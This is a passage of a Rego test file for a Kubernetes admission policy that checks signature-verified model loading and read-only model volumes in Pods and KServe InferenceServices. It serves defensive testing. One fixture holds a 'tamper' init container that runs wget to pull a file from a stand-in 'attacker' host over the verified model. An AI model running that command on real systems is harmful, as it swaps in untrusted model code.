	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS008 AEGIS008","aegis.dev/render-error":"writes its model to /tmp/elsewhere, which is not the mount path of a volume it writes"},"name":"dest-elsewhere"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/m.tgz","/tmp/elsewhere"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS008"], ["", "AEGIS008"]}
}

# params-v3 / params-v3: Pod verifier-sidecar
test_corpus_params_v3_verifier_sidecar if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS008","aegis.dev/render-error":"has restartPolicy: a sidecar does not finish before the server starts"},"name":"verifier-sidecar"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","restartPolicy":"Always","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS008"]}
}

# params-v3 / params-v3: Pod init-after-verifier
test_corpus_params_v3_init_after_verifier if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS009","aegis.dev/render-error":"initContainer tamper mounts the model volume model writable"},"name":"init-after-verifier"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]},{"command":["wget","-O","/models/model.onnx","http://attacker/m"],"image":"busybox","name":"tamper","volumeMounts":[{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS009"]}
}

# params-v3 / params-v3: Pod native-sidecar
test_corpus_params_v3_native_sidecar if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS009","aegis.dev/render-error":"initContainer sync mounts the model volume model writable"},"name":"native-sidecar"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]},{"image":"busybox","name":"sync","restartPolicy":"Always","volumeMounts":[{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS009"]}
}

# params-v3 / params-v3: Pod regular-sidecar
test_corpus_params_v3_regular_sidecar if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS009","aegis.dev/render-error":"container sidecar mounts the model volume model writable"},"name":"regular-sidecar"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]},{"image":"busybox","name":"sidecar","volumeMounts":[{"mountPath":"/data","name":"model"}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS009"]}
}

# params-v3 / params-v3: Pod server-subpath
test_corpus_params_v3_server_subpath if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS009","aegis.dev/render-error":"container server mounts the model volume model with a subPath"},"name":"server-subpath"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true,"subPath":"other"}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS009"]}
}

# params-v3 / params-v3: Pod ephemeral-writer
test_corpus_params_v3_ephemeral_writer if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS009","aegis.dev/render-error":"ephemeralContainer debugger mounts the model volume model writable"},"name":"ephemeral-writer"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"ephemeralContainers":[{"image":"busybox","name":"debugger","volumeMounts":[{"mountPath":"/models","name":"model"}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS009"]}
}

# params-v3 / params-v3: Pod server-reads-hostpath
test_corpus_params_v3_server_reads_hostpath if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS009","aegis.dev/render-error":"mount path /other in container server is taken by volume host"},"name":"server-reads-hostpath"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/other"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true},{"mountPath":"/other","name":"host","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"hostPath":{"path":"/var/models"},"name":"host"}]}}}}
	corpus_ids(vs) == {["", "AEGIS009"]}
}

# params-v3 / params-v3: Pod server-flag-two-tokens
test_corpus_params_v3_server_flag_two_tokens if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS009","aegis.dev/render-error":"reads its model from /srv/models (--model_base_path)"},"name":"server-flag-two-tokens"},"spec":{"containers":[{"args":["--model_base_path","/srv/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS009"]}
}

# params-v3 / params-v3: Pod model-volume-hostpath
test_corpus_params_v3_model_volume_hostpath if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS009","aegis.dev/render-error":"the verifier writes volume model, which is not an emptyDir"},"name":"model-volume-hostpath"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"hostPath":{"path":"/var/lib/models"},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS009"]}
}

# params-v3 / params-v3: Pod two-volumes
test_corpus_params_v3_two_volumes if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS008 AEGIS009","aegis.dev/render-error":"mounts volume model2 writable at /models2, besides its model directory /models"},"name":"two-volumes"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models2"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models2","name":"model2","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"},{"mountPath":"/models2","name":"model2"}]},{"image":"busybox","name":"fill","volumeMounts":[{"mountPath":"/m","name":"model2"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"model2"}]}}}}
	corpus_ids(vs) == {["", "AEGIS008"], ["", "AEGIS009"]}
}

# params-vault / params-vault: Pod vault-value
test_corpus_params_vault_vault_value if {
	vs := violation with input as {"parameters":{"allowVaultVerification":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"vault-value"},"spec":{"initContainers":[{"env":[{"name":"VAULT_ADDR","value":"https://vault.example:8200"}],"name":"verify-and-fetch"}]}}}}
	corpus_ids(vs) == set()
}

# params-vault / params-vault: Pod vault-value-from
test_corpus_params_vault_vault_value_from if {
	vs := violation with input as {"parameters":{"allowVaultVerification":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"vault-value-from"},"spec":{"initContainers":[{"env":[{"name":"VAULT_ADDR","valueFrom":{"configMapKeyRef":{"key":"addr","name":"vault"}}}],"name":"verify-and-fetch"}]}}}}
	corpus_ids(vs) == set()
}

# params-vault / params-vault: Pod vault-addr-without-value
test_corpus_params_vault_vault_addr_without_value if {
	vs := violation with input as {"parameters":{"allowVaultVerification":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS002"},"name":"vault-addr-without-value"},"spec":{"initContainers":[{"env":[{"name":"VAULT_ADDR"}],"name":"verify-and-fetch"}]}}}}
	corpus_ids(vs) == {["", "AEGIS002"]}
}

# params-vault / params-vault: Pod vault-on-other-container
test_corpus_params_vault_vault_on_other_container if {
	vs := violation with input as {"parameters":{"allowVaultVerification":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS002"},"name":"vault-on-other-container"},"spec":{"initContainers":[{"name":"verify-and-fetch"},{"env":[{"name":"VAULT_ADDR","value":"https://vault"}],"name":"setup"}]}}}}
	corpus_ids(vs) == {["", "AEGIS002"]}
}

# params-vault / params-vault: Pod vault-without-verifier
test_corpus_params_vault_vault_without_verifier if {
	vs := violation with input as {"parameters":{"allowVaultVerification":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002"},"name":"vault-without-verifier"},"spec":{"initContainers":[{"env":[{"name":"VAULT_ADDR","value":"https://vault"}],"name":"setup"}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# params-vault / params-vault: Pod vault-and-unmounted-key
test_corpus_params_vault_vault_and_unmounted_key if {
	vs := violation with input as {"parameters":{"allowVaultVerification":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"vault-and-unmounted-key"},"spec":{"initContainers":[{"env":[{"name":"VAULT_ADDR","value":"https://vault"}],"name":"verify-and-fetch"}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == set()
}

# params-vault / params-vault: Pod key-path-still-works
test_corpus_params_vault_key_path_still_works if {
	vs := violation with input as {"parameters":{"allowVaultVerification":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"key-path-still-works"},"spec":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == set()
}

# params-verified-model / params-verified-model: InferenceService verifier-only
test_corpus_params_verified_model_verifier_only if {
	vs := violation with input as {"parameters":{"requireVerifiedModel":true},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":""},"name":"verifier-only"},"spec":{"predictor":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"model":{"modelFormat":{"name":"sklearn"}},"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == set()
}

# params-verified-model / params-verified-model: InferenceService model-storage-uri
test_corpus_params_verified_model_model_storage_uri if {
	vs := violation with input as {"parameters":{"requireVerifiedModel":true},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS005"},"name":"model-storage-uri"},"spec":{"predictor":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"model":{"modelFormat":{"name":"sklearn"},"storageUri":"gs://kfserving-examples/models/sklearn/1.0/model"},"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == {["predictor", "AEGIS005"]}
}

# params-verified-model / params-verified-model: InferenceService framework-storage-uri
test_corpus_params_verified_model_framework_storage_uri if {
	vs := violation with input as {"parameters":{"requireVerifiedModel":true},"review":{"kind":{"group":"serving.kubeflow.org","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kubeflow.org/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS005 explainer:AEGIS005"},"name":"framework-storage-uri"},"spec":{"explainer":{"alibi":{"storageUri":"gs://seldon-models/explainer","type":"AnchorTabular"},"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]},"predictor":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"sklearn":{"storageUri":"s3://models/iris"},"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == {["explainer", "AEGIS005"], ["predictor", "AEGIS005"]}
}

# params-verified-model / params-verified-model: InferenceService storage-uris-and-spec
test_corpus_params_verified_model_storage_uris_and_spec if {
